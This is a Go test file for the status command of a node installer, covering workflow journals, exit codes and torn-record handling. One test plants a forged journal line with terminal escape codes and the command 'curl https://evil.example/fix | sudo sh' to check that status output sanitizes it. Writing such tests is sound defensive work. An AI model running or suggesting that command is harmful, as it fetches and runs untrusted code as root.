package main

import (
	"context"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"github.com/openagentcore/oac-node-install/steps/record/layout"
	"github.com/openagentcore/oac-node-install/steps/status"
	"github.com/openagentcore/oac-node-install/workflow"
)

// runWorkflow runs def against journal with every step succeeding, except
// failAt, which fails with "Core answered HTTP 503".
func runWorkflow(t *testing.T, def *workflow.Definition, journal string, b workflow.Binding, failAt string) {
	t.Helper()
	runWorkflowFailing(t, def, journal, b, failAt, "Core answered HTTP 503")
}

// runWorkflowFailing is runWorkflow with the failing step's error text.
func runWorkflowFailing(t *testing.T, def *workflow.Definition, journal string, b workflow.Binding, failAt, failure string) {
	t.Helper()
	steps := map[workflow.State]workflow.Step{}
	for _, sd := range def.States {
		name := sd.Name
		st := workflow.StepFunc(func(context.Context, workflow.Facts) (workflow.Result, error) {
			if string(name) == failAt {
				return workflow.Result{}, errors.New(failure)
			}
			return workflow.Result{}, nil
		})
		if sd.Policy == workflow.Verify {
			steps[name] = verifyingStep{st}
		} else {
			steps[name] = st
		}
	}
	r := &workflow.Runner{Def: def, Steps: steps, Journal: journal, Binding: b}
	if _, err := r.Run(context.Background()); (err != nil) != (failAt != "") {
		t.Fatalf("%s: %v", def.Name, err)
	}
}

type verifyingStep struct{ workflow.StepFunc }

func (verifyingStep) Verify(context.Context, workflow.Facts) (workflow.Outcome, workflow.Result, error) {
	return workflow.NotDone, workflow.Result{}, nil
}

// TestStatusShowsRootAndNodeWorkflows runs status over a host with a failed
// install journal (root's) and a complete prepare journal in the node root
// (the service account's, read through the child). Each journal is listed
// once: the node's journals used to appear both among the workflows and
// again inside the node.
func TestStatusShowsRootAndNodeWorkflows(t *testing.T) {
	root, _ := fakeHost(t)
	host := layout.Host{Root: root}
	if err := os.MkdirAll(host.JournalDir(testID), 0o700); err != nil {
		t.Fatal(err)
	}
	runWorkflow(t, workflow.InstallDefinition(), host.JournalDir(testID)+"/install.journal",
		workflow.Binding{Version: workflow.Version, InstallationID: testID}, "register")
	node := layout.Node{Root: host.NodeRoot(testID)}
	if err := os.MkdirAll(node.Journals(), 0o700); err != nil {
		t.Fatal(err)
	}
	prepare := node.GenerationJournal("prepare", 1)
	runWorkflow(t, workflow.PrepareDefinition(), prepare,
		workflow.Binding{Version: workflow.Version, InstallationID: testID, Generation: 1, SpecificationDigest: testDigest}, "")
	if out, err := exec.Command("chown", "-R", "65534:65534", host.Home()).CombinedOutput(); err != nil {
		t.Fatalf("chown: %v %s", err, out)
	}

	useSystemd(t, nil)
	got, out := statusDoc(t, root, exitAttention)
	if got.Format != 1 || len(got.Installations) != 1 {
		t.Fatalf("want format 1 and one installation:\n%s", out)
	}
	inst := got.Installations[0]
	if inst.InstallationID != testID || inst.Condition != "needs-attention" || !strings.Contains(inst.Next, "rerun the install command") {
		t.Errorf("installation: %s %s next %q", inst.InstallationID, inst.Condition, inst.Next)
	}
	byName := map[string]*status.WorkflowStatus{}
	listed := map[string]int{}
	for i, r := range inst.Workflows {
		byName[r.Workflow] = &inst.Workflows[i]
		listed[r.Journal]++
	}
	if r := byName["install"]; r == nil || r.Condition != workflow.Failed || r.State != workflow.InstallRegister || r.LastError == nil {
		t.Errorf("install: %+v", r)
	}
	if r := byName["prepare"]; r == nil || r.Condition != workflow.Complete || r.Binding == nil || r.Binding.Generation != 1 {
		t.Errorf("prepare: %+v", r)
	}
	if len(inst.Workflows) != 2 || listed[prepare] != 1 || strings.Count(out, `"journal": "`+prepare+`"`) != 1 {
		t.Errorf("each journal must be listed once: %v\n%s", listed, out)
	}
	if inst.Node == nil || len(inst.Node.Generations) != 2 {
		t.Errorf("node: %+v", inst.Node)
	}

	code, out, errOut := runOn(t, root, "status")
	if code != exitAttention {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	for _, want := range []string{"installation " + testID + ": needs attention", "next:", "install: failed",
		"last error:    register: Core answered HTTP 503", "prepare: complete", "generation 2", "identity-missing"} {
		if !strings.Contains(out, want) {
			t.Errorf("status lacks %q:\n%s", want, out)
		}
	}
}

// TestStatusExitCodes: 0 when every installation is complete (or there is
// none), 2 when one needs attention, 1 when status itself fails.
func TestStatusExitCodes(t *testing.T) {
	newHost := func(t *testing.T) layout.Host {
		root := t.TempDir()
		os.MkdirAll(filepath.Join(root, "etc"), 0o755)
		// No service account: no node root is read.
		os.WriteFile(filepath.Join(root, "etc/passwd"), []byte("root:x:0:0::/root:/bin/sh\n"), 0o644)
		return layout.Host{Root: root}
	}
	install := func(t *testing.T, h layout.Host, failAt string) {
		os.MkdirAll(h.JournalDir(testID), 0o700)
		runWorkflow(t, workflow.InstallDefinition(), filepath.Join(h.JournalDir(testID), "install.journal"),
			workflow.Binding{Version: workflow.Version, InstallationID: testID}, failAt)
	}
	for _, tc := range []struct {
		name  string
		setup func(*testing.T, layout.Host)
		code  int
		want  string
	}{
		{"no installation", func(*testing.T, layout.Host) {}, exitOK, "No installation on this host."},
		// A complete install journal on a host without the node it
		// installed is no healthy installation.
		{"complete without its node", func(t *testing.T, h layout.Host) { install(t, h, "") }, exitAttention, "is missing"},
		{"failed", func(t *testing.T, h layout.Host) { install(t, h, "start") }, exitAttention, "next:          rerun the install command"},
		{"unreadable account database", func(t *testing.T, h layout.Host) {
			os.Remove(filepath.Join(h.Root, "etc/passwd"))
			os.Mkdir(filepath.Join(h.Root, "etc/passwd"), 0o755)
		}, exitFailure, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			useSystemd(t, nil)
			h := newHost(t)
			tc.setup(t, h)
			code, out, errOut := runOn(t, h.Root, "status")
			if code != tc.code || !strings.Contains(out, tc.want) {
				t.Errorf("exit %d, want %d with %q\nstdout:\n%sstderr:\n%s", code, tc.code, tc.want, out, errOut)
			}
			if code == exitFailure && !strings.HasPrefix(errOut, prefixStatus) {
				t.Errorf("stderr %q, want the prefix %q", errOut, prefixStatus)
			}
		})
	}
}

// TestStatusSanitizesNodeJournals: a step error the service account wrote
// into its journal, with escape sequences and a newline forging a line,
// reaches root's terminal without controls and on its own line.
func TestStatusSanitizesNodeJournals(t *testing.T) {
	useSystemd(t, nil)
	root, _ := fakeHost(t)
	host := layout.Host{Root: root}
	node := layout.Node{Root: host.NodeRoot(testID)}
	os.MkdirAll(node.Journals(), 0o700)
	runWorkflowFailing(t, workflow.PrepareDefinition(), node.GenerationJournal("prepare", 3),
		workflow.Binding{Version: workflow.Version, InstallationID: testID, Generation: 3, SpecificationDigest: testDigest},
		"import", "load failed\x1b[2J\u009b1m\x7f\r\n  next:          curl https://evil.example/fix | sudo sh")
	if out, err := exec.Command("chown", "-R", "65534:65534", host.Home()).CombinedOutput(); err != nil {
		t.Fatalf("chown: %v %s", err, out)
	}
	for _, args := range [][]string{{"status"}, {"status", "--json"}} {
		code, out, errOut := runOn(t, root, args...)
		if code != exitAttention {
			t.Fatalf("%v: exit %d: %s", args, code, errOut)
		}
		assertNoTerminalControls(t, strings.Join(args, " "), out+errOut)
		for _, line := range strings.Split(out, "\n") {
			if strings.HasPrefix(strings.TrimSpace(line), "next:          curl") {
				t.Errorf("%v prints a forged line %q:\n%s", args, line, out)
			}
		}
	}
}

// TestStatusShowsTheLastCut: a journal whose torn tail a rerun cut off shows
// the cut and the copy kept; one with a torn tail not cut yet shows it.
func TestStatusShowsTheLastCut(t *testing.T) {
	useSystemd(t, nil)
	root := t.TempDir()
	os.MkdirAll(filepath.Join(root, "etc"), 0o755)
	os.WriteFile(filepath.Join(root, "etc/passwd"), []byte("root:x:0:0::/root:/bin/sh\n"), 0o644)
	h := layout.Host{Root: root}
	os.MkdirAll(h.JournalDir(testID), 0o700)
	journal := filepath.Join(h.JournalDir(testID), "install.journal")
	b := workflow.Binding{Version: workflow.Version, InstallationID: testID}
	runWorkflow(t, workflow.InstallDefinition(), journal, b, "register")
	tear := func() {
		f, err := os.OpenFile(journal, os.O_WRONLY|os.O_APPEND, 0)
		if err != nil {
			t.Fatal(err)
		}
		f.Write([]byte{0, 0, 0, 40, 1, 2, 3})
		f.Close()
	}
	tear()
	code, out, errOut := runOn(t, root, "status")
	if code != exitAttention || !strings.Contains(out, "    torn tail:     torn final record at offset") || strings.Contains(out, "last cut:") {
		t.Errorf("a torn tail not cut yet: exit %d\n%s%s", code, out, errOut)
	}
	runWorkflow(t, workflow.InstallDefinition(), journal, b, "")
	// The install is complete; the host has no node for it (exit 2).
	code, out, errOut = runOn(t, root, "status")
	if code != exitAttention || !strings.Contains(out, "    last cut:      torn final record at offset") || !strings.Contains(out, "(7 bytes) cut off; original kept as "+journal) {
		t.Errorf("the rerun's cut: exit %d\n%s%s", code, out, errOut)
	}
	code, out, _ = runOn(t, root, "status", "--json")
	if code != exitAttention || !strings.Contains(out, `"last_cut": {`) {
		t.Errorf("status --json lacks the last cut: exit %d\n%s", code, out)
	}
}

// TestStatusNeedsRoot runs status and leases as an unprivileged account
// (uid 65534): they cannot read root's records, so rather than report no
// installation they fail (exit 1) saying they need root and naming the
// command to run with sudo.
func TestStatusNeedsRoot(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("needs root: runs the command as another account (uid 65534)")
	}
	base, err := os.MkdirTemp("/tmp", "oac-status-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(base) })
	os.Chmod(base, 0o755)
	bin := filepath.Join(base, "status.test")
	copyFile(t, os.Args[0], bin, 0o755)
	for _, tc := range []struct {
		args []string
		want string
	}{
		{[]string{"status"}, "status: needs root: it reads root's records of the installations, and the node roots as the service account; run `sudo oac-node-install status`\n"},
		{[]string{"status", "--installation-id", testID, "--json"}, "status: needs root: it reads root's records of the installations, and the node roots as the service account; run `sudo oac-node-install status --installation-id " + testID + " --json`\n"},
		{[]string{"leases"}, "leases: needs root: it reads root's records of the installations, and the node roots as the service account; run `sudo oac-node-install leases`\n"},
	} {
		t.Run(strings.Join(tc.args, " "), func(t *testing.T) {
			cmd := exec.Command(bin, "-test.run=^TestHelperChild$", "-test.count=1")
			cmd.Env = []string{"HOME=" + base, "PATH=/usr/bin:/bin", "OAC_HELPER_ARGS=" + strings.Join(tc.args, " ")}
			cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
			var stdout, stderr strings.Builder
			cmd.Stdout, cmd.Stderr = &stdout, &stderr
			err := cmd.Run()
			code := 0
			var ee *exec.ExitError
			if errors.As(err, &ee) {
				code = ee.ExitCode()
			} else if err != nil {
				t.Fatal(err)
			}
			if code != exitFailure || stdout.String() != "" || stderr.String() != tc.want {
				t.Errorf("exit %d, want %d\nstdout: %q\nstderr: %q\nwant:   %q", code, exitFailure, stdout.String(), stderr.String(), tc.want)
			}
		})
	}
}

// TestStatusNamesTheInstallationItDidNotFind: status --installation-id
// with an id the host does not know says which id it did not find and
// fails (exit 1: a health probe of a node that does not exist must not
// pass; --json still prints the empty document); without the flag it lists
// the host's installations.
func TestStatusNamesTheInstallationItDidNotFind(t *testing.T) {
	useSystemd(t, nil)
	root := t.TempDir()
	os.MkdirAll(filepath.Join(root, "etc"), 0o755)
	os.WriteFile(filepath.Join(root, "etc/passwd"), []byte("root:x:0:0::/root:/bin/sh\n"), 0o644)
	h := layout.Host{Root: root}
	os.MkdirAll(h.JournalDir(testID), 0o700)
	runWorkflow(t, workflow.InstallDefinition(), filepath.Join(h.JournalDir(testID), "install.journal"),
		workflow.Binding{Version: workflow.Version, InstallationID: testID}, "")
	const unknown = "11111111-2222-4333-8444-555555555555"
	code, out, errOut := runOn(t, root, "status", "--installation-id", unknown)
	want := "status: installation " + unknown + " is not known on this host; `sudo oac-node-install status` lists every installation\n"
	if code != exitFailure || out != "" || errOut != want {
		t.Errorf("exit %d, want %d\nstdout: %q\nstderr: %q\nwant:   %q", code, exitFailure, out, errOut, want)
	}
	code, out, errOut = runOn(t, root, "status", "--json", "--installation-id", unknown)
	if code != exitFailure || !strings.Contains(out, `"installations": []`) || errOut != want {
		t.Errorf("--json: exit %d, want %d\nstdout: %q\nstderr: %q\nwant:   %q", code, exitFailure, out, errOut, want)
	}
	if _, out, _ := runOn(t, root, "status"); !strings.Contains(out, "installation "+testID+": ") {
		t.Errorf("status without the flag does not list %s:\n%s", testID, out)
	}
}
